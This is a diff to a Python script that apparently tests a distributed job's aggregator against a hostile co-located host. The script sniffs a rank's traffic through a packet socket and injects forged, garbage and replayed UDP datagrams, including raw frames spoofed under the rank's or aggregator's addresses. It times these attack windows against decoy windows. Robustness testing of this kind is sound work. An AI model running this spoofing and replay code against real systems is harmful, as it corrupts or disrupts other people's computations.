@@ -1,13 +1,13 @@
-"""What a hostile host can send to an aggregator's slots, as a process beside a rank that it spies
-on.
+"""What a hostile host can send to a job's slots, as a process there that spies on a rank.
 
-    python datagrams.py INTERFACE HOST PORT DECOY RATE WINDOW_S
+    python datagrams.py TAP INTERFACE HOST PORT DECOY RATE WINDOW_S
 
-From the first rank's host it copies what that sends to the aggregator, and sends so many datagrams
-per second: garbage, forgeries and copies, from its own address and, as whole frames, from the
-rank's. In every other window they go to the decoy, a host that has nothing to do with it all, so
-that what it costs to send them is always there. Prints when each window of attack began and ended,
-by the clock that all processes share, and how many went out; ends when its input does.
+TAP is the descriptor of a packet socket at the first rank's host. From what passes there to the
+aggregator, and back, it makes so many datagrams per second: garbage, forgeries and copies, to the
+aggregator from its own address, and to either end as whole frames under the other's. In every other
+window they go to the decoy, a host that has nothing to do with it all, so that what it costs to
+send them is always there. Prints when each window of attack began and ended, by the clock that all
+processes share, and how many went out; ends when its input does.
 """
 
 from __future__ import annotations
@@ -19,14 +19,17 @@ import os
 import random
 import select
 import socket
+import struct
 import sys
 import time
+from collections import deque
 from collections.abc import Callable, Iterator
 
 HEADERS, HEAD = 42, 40
 COPIES = 400
+# Bytes of the largest datagram in a packet, and of a full contribution.
+LARGEST, CONTRIBUTION = 1472, 1072
 BATCH_S = 0.005
-ETH_P_ALL = 3
 # Where fields are in a datagram (core/wire/datagram.hpp).
 KIND, WORKER, SLOT, JOB, EPOCH, ROUND, TAG = 1, 2, 4, 8, 16, 20, 32
 HELLO = 4
@@ -51,34 +54,45 @@ FORGERIES: list[Callable[[bytes], bytes]] = [
     lambda data: data[:-1],
     lambda data: data,
 ]
-"""What goes out from the attacker's own address, the copy among it."""
+"""The last one is a copy."""
 
 
-def is_copy(frame: bytes, host: str, port: int) -> bool:
-    """Whether it goes to the aggregator by UDP over IPv4."""
+def is_of_udp(frame: bytes) -> bool:
     return (
         len(frame) > HEADERS + HEAD
         and frame[12:14] == b"\x08\x00"
         and frame[23] == socket.IPPROTO_UDP
-        and frame[30:34] == socket.inet_aton(host)
-        and frame[36:38] == port.to_bytes(2, "big")
     )
 
 
+def first_of(frame: bytes) -> bytes:
+    """Without all datagrams but the first: the device gets many as one, with one header."""
+    data = frame[HEADERS:]
+    if len(data) > LARGEST:
+        data = data[:CONTRIBUTION]
+    lengths = (len(data) + size for size in (28, 8))
+    whole, udp = (length.to_bytes(2, "big") for length in lengths)
+    ip = frame[14:16] + whole + frame[18:24] + bytes(2) + frame[26:34]
+    total = sum(struct.unpack("!10H", ip))
+    check = (0xFFFF - total % 0xFFFF).to_bytes(2, "big")
+    return frame[:14] + ip[:10] + check + ip[12:] + frame[34:38] + udp + bytes(2) + data
+
+
 class Spy:
-    """Frames that the host has sent to the aggregator: all greetings, and the latest others."""
+    """The latest datagrams between a rank and the aggregator, as frames: greetings, and others."""
 
-    def __init__(self, interface: str, host: str, port: int) -> None:
-        self._tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
-        self._tap.bind((interface, ETH_P_ALL))
+    def __init__(self, tap: socket.socket, host: str, port: int) -> None:
+        self._tap = tap
         self._tap.setblocking(False)
-        self._to = host, port
-        self._greetings: list[bytes] = []
-        self._others: list[bytes] = []
+        self._address = socket.inet_aton(host) + port.to_bytes(2, "big")
+        self._kept = [deque[bytes](maxlen=COPIES) for _ in range(3)]
+        self._greetings, self._there, self._back = self._kept
 
-    @property
-    def frames(self) -> list[bytes]:
-        return self._greetings + self._others
+    def has_any(self) -> bool:
+        return any(self._kept)
+
+    def pick(self) -> bytes:
+        return random.choice(random.choice([kept for kept in self._kept if kept]))
 
     def look(self) -> None:
         """Take some of what has passed; the rest would only cost time."""
@@ -87,33 +101,56 @@ class Spy:
                 frame = self._tap.recv(1 << 16)
             except BlockingIOError:
                 return
-            if is_copy(frame, *self._to):
-                is_greeting = frame[HEADERS + KIND] == HELLO
-                (self._greetings if is_greeting else self._others).append(frame)
-        del self._greetings[:-COPIES], self._others[:-COPIES]
+            if is_of_udp(frame):
+                self._keep(first_of(frame))
 
-    def inject(self, frame: bytes) -> None:
-        """Send it as the host did. Its checksum may have been left to the device."""
+    def _keep(self, frame: bytes) -> None:
+        if frame[26:30] + frame[34:36] == self._address:
+            self._back.append(frame)
+        elif frame[30:34] + frame[36:38] == self._address:
+            is_greeting = frame[HEADERS + KIND] == HELLO
+            (self._greetings if is_greeting else self._there).append(frame)
+
+
+class Sender:
+    """Of datagrams under the host's own address, and of frames under any."""
+
+    def __init__(self, interface: str) -> None:
+        self._own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        self._raw.bind((interface, 0))
+        # What a switch learns from; with another's the switch would be attacked.
+        self._hardware = self._raw.getsockname()[4]
+
+    def send(self, data: bytes, to: tuple[str, int]) -> None:
         with contextlib.suppress(OSError):
-            self._tap.send(frame[:40] + bytes(2) + frame[42:])
+            self._own.sendto(data, to)
+
+    def inject(self, frame: bytes, data: bytes) -> None:
+        """Send data, as long as the frame's, under its addresses."""
+        data = data.ljust(len(frame) - HEADERS, b"\0")[: len(frame) - HEADERS]
+        with contextlib.suppress(OSError):
+            self._raw.send(frame[:6] + self._hardware + frame[12:HEADERS] + data)
 
 
-def strikes(spy: Spy, sender: socket.socket, to: tuple[str, int]) -> Iterator[None]:
-    """Each step sends one datagram to the aggregator, of all kinds in turn."""
+def strikes(spy: Spy, sender: Sender, to: tuple[str, int]) -> Iterator[None]:
+    """Each step sends one datagram, of all kinds in turn."""
     for forge in itertools.cycle(FORGERIES):
-        with contextlib.suppress(OSError):
-            sender.sendto(forge(random.choice(spy.frames)[HEADERS:]), to)
+        sender.send(forge(spy.pick()[HEADERS:]), to)
         yield
-        spy.inject(random.choice(spy.frames))
+        frame = spy.pick()
+        sender.inject(frame, forge(frame[HEADERS:]))
+        yield
+        frame = spy.pick()
+        sender.inject(frame, frame[HEADERS:])
         yield
 
 
-def blanks(spy: Spy, sender: socket.socket, to: tuple[str, int]) -> Iterator[None]:
+def blanks(spy: Spy, sender: Sender, to: tuple[str, int]) -> Iterator[None]:
     """Each step sends one datagram to the decoy."""
     for forge in itertools.cycle(FORGERIES):
-        for data in (forge(random.choice(spy.frames)[HEADERS:]), random.choice(spy.frames)):
-            with contextlib.suppress(OSError):
-                sender.sendto(data, to)
+        for made in (forge, forge, bytes):
+            sender.send(made(spy.pick()[HEADERS:]), to)
             yield
 
 
@@ -134,20 +171,21 @@ def is_over() -> bool:
     return bool(select.select([sys.stdin], [], [], 0)[0])
 
 
-def main(interface: str, host: str, port: int, decoy: str, rate: float, window: float) -> None:
-    spy = Spy(interface, host, port)
-    while not spy.frames and not is_over():
+def main(
+    tap: int, interface: str, host: str, port: int, decoy: str, rate: float, window: float
+) -> None:
+    spy, sender = Spy(socket.socket(fileno=tap), host, port), Sender(interface)
+    while not spy.has_any() and not is_over():
         spy.look()
         time.sleep(BATCH_S)
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
-        harmless, harmful = (blanks(spy, sender, (decoy, port)), strikes(spy, sender, (host, port)))
-        while not is_over():
-            fire(harmless, spy, rate, time.monotonic() + window)
-            begin = time.monotonic()
-            sent = fire(harmful, spy, rate, begin + window)
-            print(json.dumps([begin, time.monotonic(), sent]), flush=True)
+    harmless, harmful = blanks(spy, sender, (decoy, port)), strikes(spy, sender, (host, port))
+    while not is_over():
+        fire(harmless, spy, rate, time.monotonic() + window)
+        begin = time.monotonic()
+        sent = fire(harmful, spy, rate, begin + window)
+        print(json.dumps([begin, time.monotonic(), sent]), flush=True)
 
 
 if __name__ == "__main__":
-    interface, host, port, decoy, rate, window = sys.argv[1:]
-    main(interface, host, int(port), decoy, float(rate), float(window))
+    tap, interface, host, port, decoy, rate, window = sys.argv[1:]
+    main(int(tap), interface, host, int(port), decoy, float(rate), float(window))
